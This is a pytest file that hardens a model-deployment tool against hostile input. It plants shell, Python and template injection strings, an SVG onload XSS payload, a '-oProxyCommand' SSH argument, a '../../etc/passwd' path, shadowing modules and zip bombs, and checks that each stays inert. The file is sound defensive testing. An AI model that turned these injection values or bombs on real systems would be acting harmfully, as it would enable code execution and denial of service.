"""Hostile input and faults: generated code cannot be injected, the bundle runs only what its
manifest lists, no user file is lost, readers are bounded.

Every hostile string tries to run `touch <canary>` in Python, shell and YAML, and to open an
element in HTML/SVG; a canary file appearing anywhere means something executed. The one-line
refusals (FIFOs, alias bombs, --out not a bundle, fail-closed regress, ...) are rows of the
bad-input table (tests/bad_input_cases.py); this file covers what needs a real build or a
running process.
"""

from __future__ import annotations

import ast
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import onnx
import pytest
import yaml

from edgepipe.delivery.archive import safe_extract
from edgepipe.delivery.bundle import check_out_dir, verify_bundle, write_bundle
from edgepipe.errors import UserError
from tests.bad_input_cases import write_small_bundle
from tests.ci import missing_tool
from tests.helpers import run_cli, tiny_conv_model

EDGEPIPE = Path(sys.executable).parent / "edgepipe"  # the console script users run


def hostile(canary: Path) -> str:
    """Quotes, triple quotes, newline, $(), backticks, </script>, <svg onload>, jinja syntax."""
    return (f'h"""\'\n$(touch {canary})`touch {canary}`;touch {canary}\n'
            f'__import__("os").system("touch {canary}")#</script><svg onload=alert(1)>{{{{7*7}}}}\\')


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: set[str] = set()
        self.event_attributes: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.event_attributes += [name for name, _ in attrs if name.lower().startswith("on")]


REPORT_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "code", "table", "tr", "th", "td",
               "div", "ul", "li", "svg", "line", "rect", "text", "tbody"}  # tbody: added by the browser


def assert_no_injected_markup(html: str) -> None:
    parser = _Elements()
    parser.feed(html)
    assert parser.tags <= REPORT_TAGS, parser.tags - REPORT_TAGS
    assert parser.event_attributes == []


def hostile_model(tmp: Path, text: str) -> tuple[Path, Path]:
    """tiny_conv_model with hostile input/output names, doc string and metadata, plus its data."""
    model = tiny_conv_model()
    old_in, old_out = model.graph.input[0].name, model.graph.output[0].name
    new_in, new_out = "in" + text, "out" + text
    for node in model.graph.node:
        node.input[:] = [new_in if name == old_in else name for name in node.input]
        node.output[:] = [new_out if name == old_out else name for name in node.output]
    model.graph.input[0].name, model.graph.output[0].name = new_in, new_out
    model.doc_string = text
    # edgepipe's own metadata keys too: a rewrite records them on the prepared model, never trusted from input
    onnx.helper.set_model_props(model, {"author": text, "description": text, "edgepipe.absorbed": text,
                                        "edgepipe.expanded": text})
    onnx.save(model, str(tmp / "model.onnx"))
    data = np.random.default_rng(0).standard_normal((8, 3, 8, 8)).astype(np.float32)
    np.savez(tmp / "calib.npz", **{new_in: data})
    return tmp / "model.onnx", tmp / "calib.npz"


def hostile_profile(tmp: Path, base: str, text: str) -> Path:
    path = tmp / f"{base}-profile.yaml"
    path.write_text(yaml.safe_dump({"name": base + text, "base": base, "description": text}))
    return path


@pytest.fixture(scope="module")
def arm_build(tmp_path_factory):
    """One arm-cpu build (host report included: run.py runs here) with hostile names everywhere."""
    tmp = tmp_path_factory.mktemp("hostile-arm")
    canary = tmp / "CANARY"
    text = hostile(canary)
    model, calib = hostile_model(tmp, text)
    completed = run_cli("build", "--model", str(model), "--calib", str(calib), "--target",
                        str(hostile_profile(tmp, "arm-cpu", text)), "--out", str(tmp / "out"), cwd=tmp)
    return tmp, canary, text, completed


def test_hostile_names_stay_literal_in_run_py_readme_and_report(arm_build):
    tmp, canary, text, completed = arm_build
    assert completed.returncode == 0, completed.stderr
    out = tmp / "out"
    ast.parse((out / "run.py").read_text())
    assert not canary.exists()
    results = json.loads((out / "report" / "results.json").read_text())
    assert results["target"] == "arm-cpu" + text  # the value round-trips as data, never as code
    assert set(results["accuracy"]["outputs"]) == {"out" + text}  # tensor names too
    assert_no_injected_markup((out / "report" / "report.html").read_text())
    yaml.safe_load((out / "deploy" / "playbook.yml").read_text())
    assert verify_bundle(out) == []


def test_planted_module_beside_run_py_is_refused_not_imported(arm_build, tmp_path):
    tmp, _, _, completed = arm_build
    assert completed.returncode == 0, completed.stderr
    bundle = tmp_path / "bundle"
    shutil.copytree(tmp / "out", bundle)
    canary = tmp_path / "PLANTED"
    for name in ("numpy.py", "sitecustomize.py", "json.py", "hashlib.py", "argparse.py"):
        (bundle / name).write_text(f"open({str(canary)!r}, 'w').close()\n")
    # started the way a user might (no -I), from inside the bundle folder
    ran = subprocess.run([sys.executable, "run.py", "--iterations", "2", "--warmup", "0"], cwd=bundle,
                         capture_output=True, text=True, timeout=120)
    assert ran.returncode == 3, ran.stderr
    assert "numpy.py: not listed in SHA256SUMS" in ran.stderr and "sitecustomize.py" in ran.stderr
    assert not canary.exists()
    verified = run_cli("verify", str(bundle))
    assert verified.returncode == 1 and "numpy.py: extra file" in verified.stderr
    assert not canary.exists()


def test_jetson_engine_scripts_keep_hostile_names_literal(tmp_path):
    canary = tmp_path / "CANARY"
    text = hostile(canary)
    model, calib = hostile_model(tmp_path, text)
    completed = run_cli("build", "--model", str(model), "--calib", str(calib), "--target",
                        str(hostile_profile(tmp_path, "jetson", text)), "--out", str(tmp_path / "out"), cwd=tmp_path)
    assert completed.returncode == 0, completed.stderr
    out = tmp_path / "out"
    for script in ("run.py", "build_engine.py"):
        ast.parse((out / script).read_text())
    literal = (out / "build_engine.py").read_text().split("\nCONFIG = ", 1)[1].split("\n\n\n", 1)[0]
    config = ast.literal_eval(literal)
    assert config["inputs"][0]["name"] == "in" + text
    # calibration.cache is `name: scale` lines: a name with a line break would forge entries, so it is left out
    from edgepipe.backends.tensorrt.cache import read_calibration_cache

    cache_lines = (out / "calibration.cache").read_text().splitlines()
    scales = read_calibration_cache(out / "calibration.cache")
    reference = onnx.load(str(out / "reference.onnx"))
    names = {i.name for i in reference.graph.input} | {o for n in reference.graph.node for o in n.output}
    assert scales and set(scales) <= names and len(scales) == len(cache_lines) - 1
    assert "in" + text not in scales and "calibration.cache leaves out" in completed.stdout + completed.stderr
    subprocess.run(["sh", "-n", str(out / "build_engine.sh")], check=True)
    yaml.safe_load((out / "deploy" / "playbook.yml").read_text())
    # run the shell script against a fake trtexec that records its arguments
    fake = tmp_path / "trtexec"
    fake.write_text("#!/bin/sh\n[ \"$1\" = --help ] && exit 0\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done > \"$ARGS_FILE\"\n")
    fake.chmod(0o755)
    env = {**os.environ, "TRTEXEC": str(fake), "ARGS_FILE": str(tmp_path / "args")}
    subprocess.run([str(out / "build_engine.sh")], check=True, env=env, cwd=tmp_path, capture_output=True, timeout=60)
    args = (tmp_path / "args").read_bytes().decode().split("\0")
    assert f"--shapes=in{text}:1x3x8x8" in args
    assert not canary.exists()


def test_report_escapes_every_string_field(tmp_path):
    canary = tmp_path / "CANARY"
    text = hostile(canary)
    results = {
        "schema": 1, "target": text, "where": text, "model": text, "verified": True, "samples": 3,
        "device": {"cpu": text, "gpu": text, "runtime": text, "threads": text, "machine": text, "python": text},
        "accuracy": {"outputs": {text: {"sqnr_db": 30.0, "cosine": 0.99, "argmax_agreement": 1.0}},
                     "classifier_output": text, "top1": 0.5, "top5": 1.0, "fp32_top1": 0.5, "argmax_agreement": 1.0,
                     "ece": 0.1, "ece_bins": [{"lo": 0.0, "hi": 1.0, "count": 3, "confidence": 0.5, "accuracy": 0.5}]},
        "latency_ms": {"p50": 1.0, "p90": 1.1, "p99": 1.2, "mean": 1.0, "samples": [1.0, 1.1, 1.2]},
        "size_bytes": 10, "peak_rss_mb": 5.0, "source_sha256": text,
    }
    (tmp_path / "report").mkdir()
    (tmp_path / "report" / "results.json").write_text(json.dumps(results))
    (tmp_path / "calibration.json").write_text(json.dumps({
        "method": text, "warnings": [text],
        "tensors": {text: {"method": text, "amax": 1.0}},
        "histograms": {text: {"edges": [-1.0, 0.0, 1.0], "counts": [1, 2]}}}))
    (tmp_path / "sensitivity.json").write_text(json.dumps({
        "metric": text, "nodes": [{"rank": 1, "name": text, "op_type": text, "sqnr_only_db": 20.0}]}))
    completed = run_cli("report", str(tmp_path / "report" / "results.json"), "--baseline",
                        str(tmp_path / "report" / "results.json"))
    assert completed.returncode == 0, completed.stderr
    html = (tmp_path / "report" / "report.html").read_text()
    assert_no_injected_markup(html)
    assert html.count("&lt;svg onload") >= 10  # present, as text
    assert not canary.exists()
    # the DOM a real browser builds from it (scripts enabled) has no injected element either
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if chromium is None:
        missing_tool("chromium is not installed (apt-get install -y chromium)")
    dom = subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                          f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom",
                          (tmp_path / "report" / "report.html").as_uri()],
                         capture_output=True, text=True, timeout=120).stdout
    assert "<svg" in dom
    assert_no_injected_markup(dom)


def test_cli_never_imports_modules_from_the_current_folder(tmp_path):
    canary = tmp_path / "CANARY"
    work = tmp_path / "work"
    work.mkdir()
    for name in ("onnxsim", "torch", "numpy", "onnx", "click", "yaml", "jinja2", "json"):
        (work / f"{name}.py").write_text(f"open({str(canary)!r}, 'w').close()\n")
    onnx.save(tiny_conv_model(), str(work / "model.onnx"))
    np.savez(work / "calib.npz", x=np.random.default_rng(0).standard_normal((4, 3, 8, 8)).astype(np.float32))
    for launcher in ([str(EDGEPIPE)], [sys.executable, "-m", "edgepipe"]):  # console script and python -m
        completed = subprocess.run([*launcher, "build", "--model", "model.onnx", "--calib", "calib.npz",
                                    "--target", "jetson", "--out", "out"], cwd=work, capture_output=True, text=True,
                                   timeout=300)
        assert completed.returncode == 0, completed.stderr
        assert not canary.exists()


def test_factory_import_takes_only_the_users_package_from_the_current_folder(tmp_path, monkeypatch):
    from edgepipe.isolation import import_user_module

    canary = tmp_path / "CANARY"
    (tmp_path / "hostile_sibling_mod.py").write_text(f"open({str(canary)!r}, 'w').close()\n")
    package = tmp_path / "userpkg_hostile_test"
    package.mkdir()
    (package / "__init__.py").write_text("")
    (package / "models.py").write_text(
        "try:\n    import hostile_sibling_mod\nexcept ImportError:\n    pass\n\ndef make():\n    return 42\n")
    monkeypatch.chdir(tmp_path)
    before = list(sys.path)
    module = import_user_module("userpkg_hostile_test.models")
    assert module.make() == 42
    assert sys.path == before and not canary.exists()
    for name in ("userpkg_hostile_test.models", "userpkg_hostile_test"):
        sys.modules.pop(name, None)


def test_verify_refuses_links_fifos_and_device_generated_patterns(tmp_path):
    bundle = tmp_path / "bundle"
    write_small_bundle(bundle)
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "id_rsa").write_text("private")
    (bundle / "linked").symlink_to(secrets, target_is_directory=True)
    os.mkfifo(bundle / "pipe")
    problems = verify_bundle(bundle)  # returns: the FIFO is never opened
    assert any(p.startswith("linked:") and "link" in p for p in problems)
    assert any(p.startswith("pipe:") for p in problems)
    packed = run_cli("pack", str(bundle), "-o", str(tmp_path / "b.tar.gz"), timeout=60)
    assert packed.returncode == 1 and not (tmp_path / "b.tar.gz").exists()
    (bundle / "linked").unlink()
    (bundle / "pipe").unlink()
    write_small_bundle(tmp_path / "gen", device_generated=["model.plan"])
    assert verify_bundle(tmp_path / "gen") == []
    with pytest.raises(UserError, match="pattern"):
        write_small_bundle(tmp_path / "star", device_generated=["*"])


def test_rebuild_keeps_deploy_results_and_refuses_foreign_files(tmp_path):
    bundle = tmp_path / "bundle"
    write_small_bundle(bundle)
    (bundle / "report" / "pi-1").mkdir(parents=True)
    (bundle / "report" / "pi-1" / "results.json").write_text('{"from": "device"}')
    (bundle / "report" / "fleet.json").write_text('{"count": 1}')
    (bundle / "report" / "results.json").write_text('{"from": "old host run"}')
    write_small_bundle(bundle, target_name="t2")
    assert json.loads((bundle / "manifest.json").read_text())["target"]["name"] == "t2"
    assert (bundle / "report" / "pi-1" / "results.json").read_text() == '{"from": "device"}'
    assert (bundle / "report" / "fleet.json").read_text() == '{"count": 1}'
    assert not (bundle / "report" / "results.json").exists()  # the old host run belongs to the old build
    (bundle / "notes.txt").write_text("mine")
    with pytest.raises(UserError, match="notes.txt"):
        write_small_bundle(bundle)
    assert (bundle / "notes.txt").read_text() == "mine"


def test_interrupted_swap_is_recovered_and_stale_temp_folders_removed(tmp_path, monkeypatch):
    import tempfile

    system_tmp = tmp_path / "system-tmp"
    system_tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_tmp))
    out = tmp_path / "out"
    write_small_bundle(out)
    dead = 2 ** 22 + 12345  # above Linux's pid_max: no such process
    (system_tmp / f".edgepipe-backend-{dead}-abc").mkdir()  # a killed build's backend folder
    (system_tmp / f".edgepipe-backend-{os.getpid()}-abc").mkdir()  # a running one's
    (system_tmp / ".edgepipe-backend-abc").mkdir()  # no pid (another version, maybe running): kept
    old_anonymous = system_tmp / ".edgepipe-backend-old"  # no pid and two days old: removed
    old_anonymous.mkdir()
    os.utime(old_anonymous, (time.time() - 2 * 86400,) * 2)
    backup = tmp_path / f".out.old-{dead}-abc"
    os.rename(out, backup)  # killed between the two renames: no bundle at --out
    stale = tmp_path / f".out.tmp-{dead}-xyz"
    stale.mkdir()
    (stale / "model.bin").write_bytes(b"half")
    live = tmp_path / f".out.tmp-{os.getpid()}-live"  # a concurrent run's staging: kept
    live.mkdir()
    check_out_dir(out)
    assert (out / "manifest.json").is_file() and verify_bundle(out) == []
    assert not backup.exists() and not stale.exists() and live.exists()
    assert sorted(p.name for p in system_tmp.iterdir()) == sorted(
        [f".edgepipe-backend-{os.getpid()}-abc", ".edgepipe-backend-abc"])


def test_sigterm_during_build_leaves_no_temp_folder(tmp_path):
    script = tmp_path / "slow_build.py"
    script.write_text(f"""
import sys, time
from pathlib import Path
sys.path.insert(0, {str(Path(__file__).resolve().parents[1])!r})
from edgepipe.isolation import clean_up_on_sigterm
from tests.bad_input_cases import write_small_bundle
from tests.ci import missing_tool
import edgepipe.delivery.bundle as bundle

clean_up_on_sigterm()
def slow(staging):
    Path({str(tmp_path / 'started')!r}).touch()
    time.sleep(60)
original = bundle._render_templates
bundle._render_templates = lambda *a: (original(*a), slow(a[0]))
write_small_bundle(Path({str(tmp_path / 'out')!r}))
""")
    process = subprocess.Popen([sys.executable, str(script)], stderr=subprocess.PIPE)
    deadline = time.time() + 60
    while not (tmp_path / "started").exists() and time.time() < deadline and process.poll() is None:
        time.sleep(0.05)
    assert (tmp_path / "started").exists(), process.stderr.read() if process.poll() is not None else ""
    process.send_signal(signal.SIGTERM)
    process.wait(timeout=30)
    assert process.returncode != 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["slow_build.py", "started"]


def test_archive_member_sizes_are_checked_before_extraction(tmp_path, monkeypatch):
    import tarfile

    from edgepipe.delivery import archive

    member = tmp_path / "zeros.bin"
    member.write_bytes(b"\0" * 100_000)  # compresses to almost nothing
    path = tmp_path / "bomb.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        tar.add(member, arcname="bundle/zeros.bin")
    monkeypatch.setattr(archive, "MAX_ARCHIVE_BYTES", 10_000)
    with pytest.raises(UserError, match="zeros.bin.*limit"):
        safe_extract(path, tmp_path / "dest")
    assert not (tmp_path / "dest" / "bundle").exists()


def test_write_bundle_refuses_a_folder_that_is_not_a_bundle(tmp_path):
    folder = tmp_path / "app"
    folder.mkdir()
    (folder / "manifest.json").write_text(json.dumps({"files": []}))
    (folder / "index.html").write_text("mine")
    with pytest.raises(UserError, match="not an edgepipe bundle"):
        write_bundle(folder, target={"name": "t"}, files={}, template_context={"runner_template": "runner_tflite.py.j2"},
                     io={}, stages=[], source={}, extra_manifest={}, eval_data=None)
    assert sorted(p.name for p in folder.iterdir()) == ["index.html", "manifest.json"]


def test_16_bit_png_is_scaled_not_saturated(tmp_path):
    from PIL import Image

    from edgepipe.data import load_dataset

    folder = tmp_path / "calib"
    folder.mkdir()
    gradient = np.linspace(0, 65535, 64, dtype=np.float64).round().astype(np.uint16).reshape(8, 8)
    Image.fromarray(gradient).save(folder / "deep.png")  # a 16-bit grayscale PNG
    with Image.open(folder / "deep.png") as check:
        assert check.mode.startswith("I")
    dataset = load_dataset(folder, {"x": ((1, 3, 8, 8), np.dtype(np.float32))}, {"scale": 1.0})
    x = dataset.sample(0)["x"][0]
    expected = np.rint(gradient / 257.0)
    assert np.array_equal(x[0], expected) and np.array_equal(x[2], expected)
    assert 100 < float(x.mean()) < 155  # saturating would give ~255 almost everywhere


def test_constant_and_all_zero_calibration_data_are_warned_by_name(tmp_path):
    from edgepipe.calibrate import calibrate
    from edgepipe.data import load_dataset

    np.savez(tmp_path / "zeros.npz", x=np.zeros((4, 3, 8, 8), dtype=np.float32))
    dataset = load_dataset(tmp_path / "zeros.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})
    result = calibrate(tiny_conv_model(), dataset, {"method": "minmax"})
    assert any("input 'x' is all zeros" in w for w in result.warnings), result.warnings
    from types import SimpleNamespace

    from edgepipe.calibrate import constant_warnings

    hists = {"conv_out": SimpleNamespace(min=2.5, max=2.5), "x": SimpleNamespace(min=-1.0, max=1.0)}
    assert constant_warnings(hists, ["x"]) == [
        "1 tensor(s) are constant over the calibration set (first: 'conv_out' = 2.5); their INT8 range is a guess, "
        "check the calibration data"]
    np.savez(tmp_path / "real.npz", x=np.random.default_rng(0).standard_normal((4, 3, 8, 8)).astype(np.float32))
    dataset = load_dataset(tmp_path / "real.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})
    assert not any("constant" in w or "zeros" in w for w in calibrate(tiny_conv_model(), dataset, {}).warnings)


def test_npz_member_larger_than_free_memory_is_refused_before_inflating(tmp_path, monkeypatch):
    """Labels are inflated whole, so they are checked against free memory; inputs are read a few
    samples at a time (edgepipe/npyfile.py), so an input larger than free memory still loads."""
    from edgepipe import safeio
    from edgepipe.data import load_dataset

    x = np.random.default_rng(0).standard_normal((64, 3, 8, 8)).astype(np.float32)  # 49 KB
    np.savez_compressed(tmp_path / "big.npz", x=x, labels=np.zeros(2000, dtype=np.int64))  # labels: 16 KB
    monkeypatch.setattr(safeio, "available_memory_bytes", lambda: 10_000)
    with pytest.raises(UserError, match="big.npz: labels 'labels' unpacks to .* free memory"):
        load_dataset(tmp_path / "big.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})
    np.savez_compressed(tmp_path / "inputs.npz", x=x)
    dataset = load_dataset(tmp_path / "inputs.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})
    np.testing.assert_array_equal(dataset.sample(63)["x"][0], x[63])


def test_swap_without_atomic_exchange_still_replaces_and_keeps_results(tmp_path, monkeypatch):
    from edgepipe.delivery import outdir

    monkeypatch.setattr(outdir, "_exchange", lambda a, b: False)  # a filesystem without renameat2
    out = tmp_path / "out"
    write_small_bundle(out)
    (out / "report" / "pi").mkdir(parents=True)
    (out / "report" / "pi" / "results.json").write_text("{}")
    write_small_bundle(out, target_name="second")
    assert json.loads((out / "manifest.json").read_text())["target"]["name"] == "second"
    assert (out / "report" / "pi" / "results.json").is_file() and verify_bundle(out) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]  # no backup or staging left


def test_fifo_as_onnx_model_ssh_key_or_ranges_file_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "model.onnx")
    completed = run_cli("inspect", str(tmp_path / "model.onnx"), timeout=60)
    assert completed.returncode == 2 and "not a regular file" in completed.stderr
    write_small_bundle(tmp_path / "bundle")
    os.mkfifo(tmp_path / "key")
    completed = run_cli("deploy", str(tmp_path / "bundle"), "--host", "edge@127.0.0.1", "--identity",
                        str(tmp_path / "key"), timeout=60)
    assert completed.returncode == 2 and "key: is not a regular file" in completed.stderr


CODE_TEMPLATE_SUFFIXES = (".py.j2", ".sh.j2", ".yml.j2", ".yaml.j2", ".ini.j2")
# values that reach code templates already as a literal of that language, made in Python:
PRE_QUOTED = {
    "config_literal": "pprint.pformat of plain data: a Python literal (edgepipe/backends/tensorrt/kit.py)",
    "shapes": "shlex.quote (kit.py)",
    "workspace_mb": "int() (kit.py)",
    "dla_core": "'' or str(int) (kit.py)",
}


def test_code_templates_insert_values_only_as_literals():
    """Every `{{ ... }}` in a Python/shell/YAML template (outside {% raw %}) is `| tojson`, a
    shlex-quoted `sh.*` value, or a value listed above as quoted before rendering."""
    import re

    root = Path(__file__).resolve().parents[1] / "templates"
    offenders = []
    for path in sorted(root.rglob("*.j2")):
        if not path.name.endswith(CODE_TEMPLATE_SUFFIXES):
            continue
        text = re.sub(r"{%-?\s*raw\s*-?%}.*?{%-?\s*endraw\s*-?%}", "", path.read_text(), flags=re.S)
        for expression in re.findall(r"{{-?(.*?)-?}}", text, flags=re.S):
            expression = expression.strip()
            if expression.endswith("| tojson") or expression.startswith("sh.") or expression in PRE_QUOTED:
                continue
            offenders.append(f"{path.relative_to(root)}: {{{{ {expression} }}}}")
    assert offenders == []


def test_engine_kit_scripts_parse_with_hostile_names(tmp_path):
    from edgepipe.backends.tensorrt.kit import render_engine_kit

    canary = tmp_path / "CANARY"
    text = hostile(canary)
    python_script, shell_script = render_engine_kit(
        tmp_path, model_file="model" + text + ".onnx", inputs=[{"name": "in" + text, "shape": [1, 3, 8, 8]}],
        options={"timing_cache": "cache" + text})
    tree = ast.parse(python_script.read_text())
    assert tree.body
    subprocess.run(["sh", "-n", str(shell_script)], check=True)
    assert not canary.exists()


def _leaves(data, path=()):
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _leaves(value, path + (key,))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _leaves(value, path + (index,))
    yield path


def _replaced(data, path, value):
    data = json.loads(json.dumps(data))
    if not path:
        return value
    where = data
    for key in path[:-1]:
        where = where[key]
    where[path[-1]] = value
    return data


def test_every_results_field_of_every_type_gives_an_answer_or_one_error_line(tmp_path, capsys):
    """Each field of a real results.json replaced by each JSON type: report and regress either
    work or print one `error:` line with exit 2 (never an internal error or a traceback)."""
    from edgepipe.cli.main import main

    results = json.loads(json.dumps({
        "schema": 1, "target": "t", "where": "device", "model": "m.tflite", "samples": 2,
        "device": {"cpu": "c", "threads": 1},
        "accuracy": {"top1": 0.5, "outputs": {"y": {"sqnr_db": 20.0, "cosine": 0.9}},
                     "ece_bins": [{"lo": 0.0, "hi": 1.0, "count": 2, "confidence": 0.5, "accuracy": 0.5}]},
        "latency_ms": {"p50": 1.0, "p90": 1.1, "p99": 1.2, "samples": [1.0, 1.2]}, "size_bytes": 5}))
    baseline = tmp_path / "baseline.json"
    baseline.write_text(json.dumps(results))
    odd_values = [None, "<svg onload=alert(1)>", [], {}, -1, 1e308, True, [[1]], {"a": {"b": 1}}]
    seen = 0
    for path in set(_leaves(results)):
        for value in odd_values:
            candidate = tmp_path / "candidate.json"
            candidate.write_text(json.dumps(_replaced(results, path, value)))
            for args in (["report", str(candidate), "-o", str(tmp_path / "r")],
                         ["regress", "--baseline", str(baseline), "--candidate", str(candidate)],
                         ["regress", "--baseline", str(candidate), "--candidate", str(baseline)]):
                with pytest.raises(SystemExit) as exit_info:
                    main(args)
                err = capsys.readouterr().err
                lines = [line for line in err.splitlines() if line.strip()]
                assert exit_info.value.code in (0, 1, 2), (path, value, args[0], err)
                assert "internal error" not in err and "Traceback" not in err, (path, value, err)
                if exit_info.value.code == 2:
                    assert len(lines) == 1 and lines[0].startswith("error: "), err
                seen += 1
    assert seen > 300


def test_every_manifest_field_of_every_type_gives_an_answer_or_one_error_line(tmp_path, capsys):
    """The same for verify and pack: a hand-edited manifest (SHA256SUMS updated to match it)."""
    import hashlib

    from edgepipe.cli.main import main

    bundle = tmp_path / "bundle"
    manifest = write_small_bundle(bundle, device_generated=["model.plan"])
    sums = (bundle / "SHA256SUMS").read_text().splitlines()
    odd_values = [None, "../../etc/passwd", "*", [], {}, -1, True, [[1]], {"a": 1}]
    seen = 0
    for path in set(_leaves(manifest)):
        for value in odd_values:
            edited = json.dumps(_replaced(manifest, path, value)).encode()
            (bundle / "manifest.json").write_bytes(edited)
            digest = hashlib.sha256(edited).hexdigest()
            (bundle / "SHA256SUMS").write_text("".join(
                (f"{digest}  manifest.json" if line.endswith("  manifest.json") else line) + "\n" for line in sums))
            for args in (["verify", str(bundle)], ["pack", str(bundle), "-o", str(tmp_path / "b.tar.gz")]):
                with pytest.raises(SystemExit) as exit_info:
                    main(args)
                err = capsys.readouterr().err
                assert exit_info.value.code in (0, 1, 2), (path, value, args[0], err)
                assert "internal error" not in err and "Traceback" not in err, (path, value, err)
                seen += 1
    assert seen > 100


def test_every_inventory_field_of_every_type_loads_or_raises_one_user_error(tmp_path):
    from edgepipe.delivery.fleet import load_inventory

    inventory = {"all": {"vars": {"ansible_user": "edge"}, "hosts": {"pi1": {"ansible_host": "10.0.0.1", "ansible_port": 22}},
                         "children": {"lab": {"hosts": {"pi2": None}}}}}
    odd_values = [None, "x", [], {}, -1, True, [[1]], {"a": {"b": 1}}, "-oProxyCommand=touch x"]
    outcomes = {"loaded": 0, "refused": 0}
    for path in set(_leaves(inventory)):
        for value in odd_values:
            (tmp_path / "hosts.yml").write_text(yaml.safe_dump(_replaced(inventory, path, value)))
            try:  # anything but a UserError fails the test
                for host in load_inventory(tmp_path / "hosts.yml"):
                    host.target()
                outcomes["loaded"] += 1
            except UserError:
                outcomes["refused"] += 1
    assert outcomes["loaded"] > 10 and outcomes["refused"] > 10, outcomes


def test_npz_zip_bomb_is_refused_from_the_zip_directory(tmp_path, monkeypatch):
    from edgepipe import safeio
    from edgepipe.data import load_dataset

    np.savez_compressed(tmp_path / "bomb.npz", x=np.zeros((256, 3, 8, 8), dtype=np.float32))  # 196 KB -> ~300 B
    monkeypatch.setattr(safeio, "BOMB_MIN_BYTES", 1000)  # the same check, at test scale
    with pytest.raises(UserError, match="bomb.npz: input 'x' unpacks from .* a zip bomb"):
        load_dataset(tmp_path / "bomb.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})
    np.savez_compressed(tmp_path / "real.npz",
                        x=np.random.default_rng(0).standard_normal((4, 3, 8, 8)).astype(np.float32))
    assert len(load_dataset(tmp_path / "real.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})) == 4


@pytest.fixture(scope="module")
def demo_bundle(tmp_path_factory):
    """The demo's arm-cpu bundle (compare needs a built-in target name in the manifest)."""
    tmp = tmp_path_factory.mktemp("demo-arm")
    completed = run_cli("build", "--target", "arm-cpu", cwd=tmp)
    assert completed.returncode == 0, completed.stderr
    return tmp / "build" / "arm-cpu"


def _bundle_copy(bundle: Path, tmp_path, name: str) -> Path:
    return Path(shutil.copytree(bundle, tmp_path / name, symlinks=True))


def _reseal(bundle: Path) -> None:
    """Rewrite the manifest's sizes and sha256s and SHA256SUMS for the files as they are now: what a
    hostile provider hands over passes `verify`, so the readers behind it must hold on their own."""
    from edgepipe.delivery.bundle import MANIFEST, SHA256SUMS, json_bytes, sha256_file, sha256sums_text

    manifest = json.loads((bundle / MANIFEST).read_text())
    for entry in manifest["files"]:
        entry.update(size=(bundle / entry["path"]).stat().st_size, sha256=sha256_file(bundle / entry["path"]))
    (bundle / MANIFEST).write_bytes(json_bytes(manifest))
    sums = manifest["files"] + [{"path": MANIFEST, "sha256": sha256_file(bundle / MANIFEST)}]
    (bundle / SHA256SUMS).write_text(sha256sums_text(sums))


def _zero_bomb(path: Path, member: str, megabytes: int) -> None:
    """An .npz member of float32 zeros deflated over 1000:1, written a MB at a time."""
    import zipfile

    header = np.lib.format.header_data_from_array_1_0(np.zeros((1,), np.float32))
    header["shape"] = (megabytes, 1, 512, 512)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(member, "w") as out:
        np.lib.format.write_array_header_1_0(out, header)
        for _ in range(megabytes):
            out.write(bytes(1 << 20))


def test_compare_reads_the_bundles_files_bounded(demo_bundle, tmp_path):
    """compare reads a bundle someone handed over (resealed, so it passes verify): its
    calibration.json may be a FIFO (blocked forever; verify refuses it), nested 100000 deep
    (RecursionError) or hold a string where a threshold belongs; its eval/eval.npz (read whole) may
    be a zip bomb or not a zip at all."""
    for name in ("eval-bomb", "eval-garbage"):
        bundle = _bundle_copy(demo_bundle, tmp_path, name)
        eval_npz = bundle / "eval" / "eval.npz"
        if name == "eval-bomb":
            _zero_bomb(eval_npz, "input:image.npy", 100)
        else:
            eval_npz.write_bytes(b"not a zip")
        _reseal(bundle)
        completed = run_cli("compare", str(bundle), "--max-samples", "2", "--no-alone", cwd=tmp_path, timeout=120)
        assert completed.returncode == 2, (name, completed.stderr)
        assert completed.stderr.startswith(f"error: {eval_npz}: ") and len(completed.stderr.splitlines()) == 1
    cases = {"fifo": None, "nested": "[" * 100_000 + "]" * 100_000, "wrong-type": "amax"}
    for name, content in cases.items():
        bundle = _bundle_copy(demo_bundle, tmp_path, name)
        calibration = bundle / "calibration.json"
        if content is None:
            calibration.unlink()
            os.mkfifo(calibration)
        elif content == "amax":
            data = json.loads(calibration.read_text())
            next(iter(data["tensors"].values()))["amax"] = "<svg onload=alert(1)>"
            calibration.write_text(json.dumps(data))
        else:
            calibration.write_text(content)
        if content is not None:
            _reseal(bundle)
        completed = run_cli("compare", str(bundle), "--max-samples", "2", "--alone-samples", "1", cwd=tmp_path,
                            timeout=120)
        lines = completed.stderr.strip().splitlines()
        assert completed.returncode == 2 and len(lines) == 1, (name, completed.stderr)
        assert lines[0].startswith(f"error: {bundle}: refusing to compare" if content is None
                                   else f"error: {calibration}"), lines
        assert "calibration.json" in lines[0]
        assert not (bundle / "report" / "compare.json").exists()


def test_writes_into_a_bundles_report_folder_never_follow_links(demo_bundle, tmp_path):
    """A bundle whose report/ is a link, or whose report/compare.json and report.md are links to a
    user's file (`~/.bashrc`: compare.json holds the model's tensor names, `$(...)` included):
    compare refuses the first before any work and replaces the links of the second."""
